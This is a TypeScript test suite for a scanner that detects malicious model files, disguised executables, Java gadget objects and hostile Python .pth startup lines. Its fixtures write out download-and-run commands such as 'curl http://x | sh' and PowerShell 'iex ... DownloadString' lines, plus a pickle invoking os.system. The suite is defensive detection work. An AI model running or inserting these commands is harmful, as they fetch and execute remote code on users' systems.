import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BytesSource } from '../src/bytes/byte-source.ts';
import { scanSource } from '../src/index.ts';
import { tar, zip } from './corpus/archives.ts';
import { pickle, reduce, stackGlobal, text } from './corpus/assembler.ts';

const told = async (name: string, content: string | Uint8Array): Promise<string> => {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  const { verdict, detections } = await scanSource(name, new BytesSource(bytes));
  return [verdict, ...new Set(detections.map(({ technique }) => technique))].join(' ');
};
const BAD = pickle(4, reduce(stackGlobal('os', 'system'), text('x')));
const member = (name: string, content: Uint8Array): Buffer =>
  Buffer.concat([
    Buffer.from(`${name.padEnd(16)}${'0'.padEnd(32)}${String(content.length).padEnd(10)}\`\n`),
    content,
    Buffer.alloc(content.length % 2, '\n'),
  ]);
const ar = (...members: readonly Buffer[]): Buffer => Buffer.concat([Buffer.from('!<arch>\n'), ...members]);

const PROGRAMS = {
  elf: `\x7fELF\x02\x01\x01${'\0'.repeat(60)}`,
  windows: `MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0`,
  macOS: `\xcf\xfa\xed\xfe${'\0'.repeat(60)}`,
  fat: `\xca\xfe\xba\xbe\0\0\0\x02${'\0'.repeat(60)}`,
  java: `\xca\xfe\xba\xbe\0\0\0\x34${'\0'.repeat(60)}`,
  wasm: '\0asm\x01\0\0\0',
  bytecode: `\xa7\r\r\n${'\0'.repeat(12)}\xe3\0\0`,
};

describe('what runs is told', () => {
  it('by its content, for somebody to look at; under the name of a model it is held', async () => {
    for (const [what, content] of Object.entries(PROGRAMS)) {
      for (const name of ['lib.so', 'a.dll', 'notes', 'a.pyc'])
        assert.equal(await told(name, content), 'review program', `${what} ${name}`);
      for (const name of ['model.safetensors', 'weights.bin', 'a.gguf', 'a.pt', 'a.pth'])
        assert.match(await told(name, content), /^suspicious .*disguised-program/, `${what} ${name}`);
      assert.equal(
        await told('a.zip', zip([{ name: 'a.so', content: Buffer.from(content, 'latin1') }])),
        'review program',
      );
    }
    assert.equal(await told('a.pyc', `\x03\xf3\r\n${'\0'.repeat(4)}c`), 'review program');
  });

  it('within a package that torch compiled ahead of time it is held: loading the package runs it', async () => {
    const content = Buffer.from(PROGRAMS.elf, 'latin1');
    const within = (name: string) =>
      zip([
        { name: 'm/version', content: Buffer.from('3') },
        { name, content },
      ]);
    assert.equal(await told('m.pt2', within('m/data/aotinductor/model/k.so')), 'suspicious loaded-program');
    assert.equal(await told('m.pt2', within('m/extra/k.so')), 'review program');
  });

  it('and what only begins alike is not', async () => {
    assert.equal(await told('weights.bin', `MZ${'\x07'.repeat(200)}`), 'unrecognised');
    assert.equal(await told('weights.bin', `\xca\xfe${'\x07'.repeat(200)}`), 'unrecognised');
    assert.equal(await told('a.txt', 'MZ is how it begins\r\n'), 'unrecognised');
  });

  it('when Python starts', async () => {
    assert.equal(await told('x.pth', 'import _virtualenv\n'), 'review startup-code');
    assert.match(
      await told('x.pth', "import os; exec(__import__('base64').b64decode('eA=='))\n"),
      /^suspicious startup-code hidden-code$/,
    );
    assert.match(await told('x.pth', "../lib\nimport os; os.system('curl http://x | sh')\n"), /^suspicious /);
    assert.equal(await told('x.pth', '../lib\n/opt/important\n'), 'unrecognised');
  });

  it('by scripts under any name, and by those of Windows', async () => {
    for (const name of ['install', 'model.bin', 'a.txt'])
      assert.equal(
        await told(name, '#!/usr/bin/env bash\ncurl http://x | sh\n'),
        'suspicious notebook-shell',
        name,
      );
    assert.equal(
      await told('run', "#!/usr/bin/python3\n__import__('os').system('curl http://x | sh')\n"),
      'suspicious notebook-shell',
    );
    for (const line of [
      "iex (New-Object Net.WebClient).DownloadString('http://x')",
      'iwr http://x -UseBasicParsing | iex',
      'Invoke-Expression (Invoke-WebRequest http://x)',
    ]) {
      assert.equal(await told('a.ps1', line), 'suspicious notebook-shell', line);
      assert.equal(await told('a.bat', `powershell -c "${line}"`), 'suspicious notebook-shell', line);
    }
    assert.equal(await told('a.ps1', 'iwr http://x -OutFile a.zip\n'), 'clean');
    assert.equal(await told('run', '#!/bin/sh\necho hello\n'), 'clean');
  });
});

it('objects of Java are for somebody to look at; those that run commands are malicious', async () => {
  assert.equal(
    await told('weka.model', '\xac\xed\0\x05sr\0\x1cweka.classifiers.trees.J48xx'),
    'review java-objects',
  );
  const gadget = '\xac\xed\0\x05sr\0:org.apache.commons.collections.functors.InvokerTransformer';
  assert.equal(await told('weka.model', gadget), 'malicious java-gadget');
});

describe('archives of ar', () => {
  it('are scanned with all their members, whatever way their names are kept', async () => {
    const table = member('//', Buffer.from('a_name_that_is_long.pkl/\n'));
    for (const archive of [
      ar(member('m.pkl/', BAD)),
      ar(member('odd/', Buffer.from('odd')), member('m.pkl/', BAD)),
      ar(table, member('/0', BAD)),
      ar(member('#1/8', Buffer.concat([Buffer.from('m.pkl\0\0\0'), BAD]))),
      ar(
        member('debian-binary', Buffer.from('2.0\n')),
        member('data.tar', tar([{ name: 'm.pkl', content: BAD }])),
      ),
    ])
      assert.equal(await told('a.deb', archive), 'malicious code-execution');
  });

  it('of harmless members are harmless, and one cut short is incomplete', async () => {
    assert.equal(await told('a.a', ar(member('a.json', Buffer.from('{"a": 1}')))), 'clean');
    assert.equal(
      await told('a.a', ar(member('a.json', Buffer.from('{"a": 1}'))).subarray(0, 70)),
      'incomplete truncated',
    );
    assert.equal(await told('a.a', Buffer.from(`!<arch>\n${'x'.repeat(80)}`)), 'incomplete malformed');
  });
});

it('cpio, squashfs and rpm are named and incomplete', async () => {
  for (const head of ['070701', '070707', '\xed\xab\xee\xdb'])
    assert.equal(await told('a.img', `${head}${'0'.repeat(200)}`), 'incomplete unknown-codec');
});

it('data of IDL under `.sav` is no broken pickle', async () => {
  assert.equal(await told('a.sav', `SR\0\x04\0\0\0\x0a${'\0'.repeat(60)}`), 'unrecognised');
  assert.equal(await told('a.sav', `$FL2@(#) SPSS${'\0'.repeat(60)}`), 'unrecognised');
  assert.equal(await told('a.sav', BAD), 'malicious code-execution');
});

it('lines that Python runs at its start are found wherever it ends the line before', async () => {
  const told = async (text: string): Promise<string[]> => {
    const { detections } = await scanSource('a.pth', new BytesSource(Buffer.from(text)));
    return detections.map(({ technique }) => technique);
  };
  const run = 'import os; os.system("curl http://x | sh")';
  for (const end of ['\n', '\r', '\r\n', '\v', '\f', '\x1c', '\x85', '\u2028', '\u2029'])
    assert.deepEqual(
      await told(`/a/b${end}${run}\n`),
      ['startup-code', 'notebook-shell'],
      JSON.stringify(end),
    );
  const comments = `# a comment\n`.repeat(1000);
  assert.deepEqual(await told(`${comments}${run}\n`), ['startup-code', 'notebook-shell']);
  assert.deepEqual(await told(`${comments}/a/b\n`), []);
});
